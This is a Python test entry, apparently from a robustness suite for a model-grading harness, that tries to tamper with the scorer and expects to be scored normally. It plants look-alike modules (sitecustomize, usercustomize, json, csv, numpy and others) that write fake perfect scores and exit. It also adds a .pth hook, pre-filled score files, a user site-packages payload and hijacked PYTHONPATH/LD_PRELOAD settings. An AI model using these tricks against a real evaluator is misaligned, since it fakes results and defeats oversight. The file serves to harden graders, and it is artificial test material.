# TRIES: plants modules that Python loads by itself, and finished scores, where the scorer might look.
# MUST REPORT: OK, scored normally.
# NEVER: code of the entry in the scorer's process; a score, a refusal or a public log of the entry's making.
import csv
import json
import os
import pathlib

EVIL = """
import json, os
for name, text in (("scores.json", json.dumps({"mae": 0, "bias": 0})), ("hijacked", "")):
    try:
        open(os.path.join("/app/output", name), "w").write(text)
    except OSError:
        pass
os._exit(0)
"""
out = pathlib.Path(os.environ["OUTPUT_DIR"])
ids = [row["id"] for row in csv.DictReader(open(os.path.join(os.environ["INPUT_DIR"], "test.csv")))]
(out / "predictions.csv").write_text("id,prediction\n" + "".join(f"{name},0\n" for name in ids))
modules = "scorekit warm score sitecustomize usercustomize conftest json csv statistics numpy pandas launcher"
for name in modules.split():
    (out / f"{name}.py").write_text(EVIL)
(out / "planted.pth").write_text("import os; os._exit(0)\n")
finished = json.dumps({"mae": 0, "public_mae": 0, "private_mae": 0, "bias": 0, "faults": [], "total": 0})
for name in ("scores.json", "refused.json", "metadata", "public.log", "row_losses.csv"):
    (out / name).write_text(finished)
home = pathlib.Path.home() / ".local/lib/python3.11/site-packages"
home.mkdir(parents=True)
(home / "usercustomize.py").write_text(EVIL)
for name in ("PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "LD_PRELOAD"):
    os.environ[name] = str(out)
